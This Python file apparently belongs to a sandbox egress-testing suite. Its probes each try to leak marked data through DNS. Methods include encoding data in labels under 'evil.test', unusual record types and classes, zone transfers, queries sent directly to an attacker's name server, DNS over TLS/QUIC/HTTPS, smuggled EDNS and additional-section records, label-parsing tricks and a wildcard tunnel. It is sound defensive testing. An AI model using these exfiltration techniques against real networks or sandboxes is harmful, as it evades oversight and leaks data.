"""The resolver: questions that carry data out, other resolvers, and other ways of asking.

A question is a message to whoever owns the name, so one that only arrives has already leaked.
"""

import os
import socket
import struct

from probe import Held, probe, talk

ASKED = "the question arrives at a resolver outside"
ANSWERED = "a name that is not permitted gets an answer"
A, NULL, PTR, TXT, AAAA, AXFR, ANY, HTTPS = 1, 10, 12, 16, 28, 252, 255, 65


def encoded(name):
    """A name in the form of the wire. A list stands for labels as they are."""
    labels = name if isinstance(name, list) else name.encode().split(b".")
    return b"".join(bytes([len(label)]) + label for label in labels if label) + b"\0"


def question(name, kind=A, family=1, flags=0x0100, more=b"", counts=(1, 0, 0, 0)):
    """A packet with one question, and what else is put behind it."""
    return struct.pack(">HHHHHH", 0x2B1D, flags, *counts) + encoded(name) + struct.pack(">HH", kind, family) + more


def inside():
    """The name server that the sandbox names."""
    with open("/etc/resolv.conf") as file:
        return next((line.split()[1] for line in file if line.startswith("nameserver")), "127.0.0.1")


def ask(packet, server=None, port=53, wait=0.5):
    """Sends a packet over UDP. It is answered with records, or it comes back as it went: that is the way out."""
    judged(packet, talk(server or inside(), port, packet, kind=socket.SOCK_DGRAM, wait=wait))


def judged(packet, answer):
    if answer != packet and (len(answer) < 12 or not struct.unpack(">H", answer[6:8])[0]):
        raise Held(f"answered without records, code {answer[3] & 15 if len(answer) > 3 else '?'}")


@probe(ASKED)
def data_in_labels(lab):
    """Data in the labels of a name whose servers the attacker owns, by the system's own resolver."""
    socket.getaddrinfo(f"{lab.mark()}.data.evil.test", 80)


@probe(ASKED)
def data_below_a_permitted_name(lab):
    """Data in a label below a name that is permitted by itself."""
    socket.getaddrinfo(f"{lab.mark()}.allowed.test", 80)


@probe(ASKED)
def data_in_a_single_label(lab):
    """Data in a name without a dot, which goes to the search list or to the root."""
    ask(question(lab.mark()))


@probe(ASKED)
def longest_name(lab):
    """A name of 255 bytes, whose every label is as long as can be."""
    ask(question([lab.mark().encode().ljust(63, b"x"), b"y" * 63, b"z" * 63, b"w" * 50, b"evil", b"test"]))


@probe(ASKED)
def text_record(lab):
    """A TXT question: the record that answers with most data."""
    ask(question(f"{lab.mark()}.evil.test", TXT))


@probe(ASKED)
def any_record(lab):
    """A question for records of any type."""
    ask(question(f"{lab.mark()}.evil.test", ANY))


@probe(ASKED)
def null_record(lab):
    """A NULL question, whose answer may hold any bytes."""
    ask(question(f"{lab.mark()}.evil.test", NULL))


@probe(ASKED)
def service_record(lab):
    """An HTTPS question, as browsers ask it."""
    ask(question(f"{lab.mark()}.evil.test", HTTPS))


@probe(ASKED)
def rare_record(lab):
    """A question of a type that is assigned to nothing."""
    ask(question(f"{lab.mark()}.evil.test", 65280))


@probe(ASKED)
def ipv6_only(lab):
    """A question for IPv6 addresses only."""
    socket.getaddrinfo(f"{lab.mark()}.evil.test", 80, socket.AF_INET6)


@probe(ASKED)
def reverse_look_up(lab):
    """Data in the name of a reverse look-up."""
    ask(question(f"{lab.mark()}.5.5.5.in-addr.arpa", PTR))


@probe(ASKED)
def zone_transfer(lab):
    """A request to transfer a zone whose name is the data."""
    packet = question(f"{lab.mark()}.evil.test", AXFR)
    answer = talk(inside(), 53, struct.pack(">H", len(packet)) + packet)
    judged(packet, answer[2:])


@probe(ASKED)
def class_chaos(lab):
    """A question of class CHAOS."""
    ask(question(f"{lab.mark()}.evil.test", TXT, family=3))


@probe(ASKED)
def class_any(lab):
    """A question of every class."""
    ask(question(f"{lab.mark()}.evil.test", A, family=255))


@probe(ASKED)
def over_tcp(lab):
    """The question over TCP instead of UDP."""
    packet = question(f"{lab.mark()}.evil.test")
    judged(packet, talk(inside(), 53, struct.pack(">H", len(packet)) + packet)[2:])


@probe(ASKED)
def second_over_tcp(lab):
    """Two questions on one TCP connection, of which only the first one is permitted."""
    first, second = question("allowed.test"), question(f"{lab.mark()}.evil.test")
    with socket.create_connection((inside(), 53), 1) as one:
        one.sendall(b"".join(struct.pack(">H", len(packet)) + packet for packet in (first, second)))
        one.settimeout(0.5)
        answer = b""
        while data := one.recv(65536):
            answer += data
            if b"\4evil\4test" in answer:
                judged(second, answer[answer.index(b"\4evil\4test") - 13 - len(lab.mark()):])
                return
    raise EOFError("no second answer")


@probe(ASKED)
def split_over_tcp(lab):
    """The question over TCP, byte by byte."""
    packet = question(f"{lab.mark()}.evil.test")
    with socket.create_connection((inside(), 53), 1) as one:
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        one.settimeout(0.5)
        for byte in struct.pack(">H", len(packet)) + packet:
            one.sendall(bytes([byte]))
        answer = one.recv(65536)
    if len(answer) < 14 or not answer[9]:
        raise Held("answered without records")


@probe(ASKED)
def another_resolver(lab):
    """The question to a resolver that the sandbox does not name."""
    ask(question(f"{lab.mark()}.evil.test"), lab.resolver)


@probe("a packet arrives at the attacker")
def resolver_of_the_attacker(lab):
    """The question to the attacker's own name server."""
    ask(question(lab.mark()), lab.evil)


@probe("a packet arrives at the attacker")
def resolver_of_the_attacker_over_tcp(lab):
    """The question over TCP to the attacker's own name server."""
    packet = question(lab.mark())
    judged(packet, talk(lab.evil, 53, struct.pack(">H", len(packet)) + packet)[2:])


@probe("a packet arrives at the attacker")
def resolver_of_the_attacker_over_ipv6(lab):
    """The question to the attacker's name server over IPv6."""
    ask(question(lab.mark()), lab.evil6)


@probe("a packet arrives at the attacker")
def no_question_at_all(lab):
    """Other bytes than DNS to the port of DNS."""
    ask(lab.mark("these are no questions").encode() * 4, lab.evil)


@probe("a packet arrives at the attacker")
def port_of_multicast_dns(lab):
    """The question to port 5353 of a host outside."""
    ask(question(lab.mark()), lab.evil, 5353)


@probe("bytes arrive at the attacker")
def dns_over_tls(lab):
    """DNS over TLS, on its port."""
    talk(lab.evil, 853, lab.mark())


@probe("bytes arrive at the attacker")
def dns_over_quic(lab):
    """DNS over QUIC, on its port."""
    talk(lab.evil, 853, lab.mark(), kind=socket.SOCK_DGRAM, wait=0.5)


@probe("a request arrives at the attacker")
def dns_over_https(lab):
    """DNS over HTTPS to a bare address."""
    talk(lab.evil, 8443, f"POST /dns-query HTTP/1.1\r\nHost: {lab.evil}\r\nContent-Length: 0\r\n\r\n{lab.mark()}")


@probe("data arrives with a question that is permitted")
def data_in_an_option(lab):
    """An EDNS option with data, on a question for a permitted name."""
    data = lab.mark().encode()
    option = struct.pack(">HH", 65001, len(data)) + data
    record = b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(option)) + option
    ask(question("allowed.test", more=record, counts=(1, 0, 0, 1)))
    raise Held("answered, without passing the option on")


@probe("data arrives with a question that is permitted")
def data_in_other_sections(lab):
    """A record with data in the additional section of a question for a permitted name."""
    data = lab.mark().encode()
    record = encoded(f"{lab.mark()}.evil.test") + struct.pack(">HHIH", TXT, 1, 0, len(data)) + data
    ask(question("allowed.test", more=record, counts=(1, 0, 0, 1)))
    raise Held("answered, without passing the record on")


@probe("data arrives with a question that is permitted")
def data_after_the_question(lab):
    """Bytes that no section counts, behind a question for a permitted name."""
    ask(question("allowed.test", more=lab.mark().encode()))
    raise Held("answered, without passing the bytes on")


@probe("data arrives with a question that is permitted")
def data_in_the_case(lab):
    """The case of a permitted name's letters, which a resolver passes on to whoever owns the name."""
    ask(question("ALLOWED.test"))
    ask(question("ALLOWED.test", TXT))
    raise Held("answered, in the case of the policy")


@probe(ASKED)
def two_questions(lab):
    """Two questions in one packet, of which only the first one is permitted."""
    second = encoded(f"{lab.mark()}.evil.test") + struct.pack(">HH", A, 1)
    ask(question("allowed.test", more=second, counts=(2, 0, 0, 0)))
    raise Held("answered, without the second question")


@probe(ASKED)
def name_by_a_pointer(lab):
    """The question's name is a compression pointer to labels further back."""
    hidden = encoded(f"{lab.mark()}.evil.test")
    ask(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\xc0\x12" + struct.pack(">HH", A, 1) + hidden)


@probe(ASKED)
def nul_in_a_label(lab):
    """A label with NUL in it: a reader of C strings sees the permitted name only."""
    ask(question([b"allowed.test\0", lab.mark().encode(), b"evil", b"test"]))


@probe(ASKED)
def dot_in_a_label(lab):
    """A label with dots in it, so that the end of the name reads like a permitted one."""
    ask(question([lab.mark().encode(), b"evil.test\0.allowed", b"test"]))


@probe(ASKED)
def permitted_name_as_a_user(lab):
    """user@host as a name: a reader of URLs takes the permitted name for the host."""
    ask(question([f"{lab.mark()}.evil".encode(), b"test@allowed", b"test"]))


@probe(ASKED)
def notify(lab):
    """A NOTIFY message, which tells a server that the zone in it changed."""
    ask(question(f"{lab.mark()}.evil.test", 6, flags=0x2400))


@probe(ASKED)
def dynamic_update(lab):
    """An UPDATE message, which writes a record into the attacker's zone."""
    data = lab.mark().encode()
    record = encoded("x.evil.test") + struct.pack(">HHIH", TXT, 1, 60, len(data) + 1) + bytes([len(data)]) + data
    ask(question("evil.test", 6, flags=0x2800, more=record, counts=(1, 0, 1, 0)))


@probe(ASKED)
def inverse_question(lab):
    """The obsolete inverse query."""
    ask(question(f"{lab.mark()}.evil.test", flags=0x0900))


@probe(ASKED)
def answer_instead_of_a_question(lab):
    """A packet that says it is an answer, sent to the resolver."""
    ask(question(f"{lab.mark()}.evil.test", flags=0x8180))


@probe(ASKED)
def large_question(lab):
    """A question with four kilobytes behind it."""
    ask(question(f"{lab.mark()}.evil.test", more=b"\0" * 4000))


@probe(ASKED)
def flood_before_the_question(lab):
    """Many permitted names below the wildcard first; the question that is not permitted comes in the rush."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.connect((inside(), 53))
        for number in range(150):
            one.send(question(f"n{number}.wild.test"))
        one.send(struct.pack(">H", 1) + question(f"{lab.mark()}.evil.test")[2:])
        while answer := one.recv(4096):
            if answer[:2] == b"\0\1":
                judged(b"", answer)
                return


@probe("names without a bound are given out below a wildcard")
def tunnel_below_the_wildcard(lab):
    """Data in names below a permitted wildcard: more than five thousand of them."""
    given = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.3)
        one.connect((inside(), 53))
        for start in range(0, 5600, 50):
            for number in range(start, start + 50):
                one.send(question(f"d{number}-{os.getpid()}.wild.test"))
            try:
                for _ in range(50):
                    given += one.recv(4096)[7] > 0
            except TimeoutError:
                pass
    if given < 5000:
        raise Held(f"{given} names were given out")
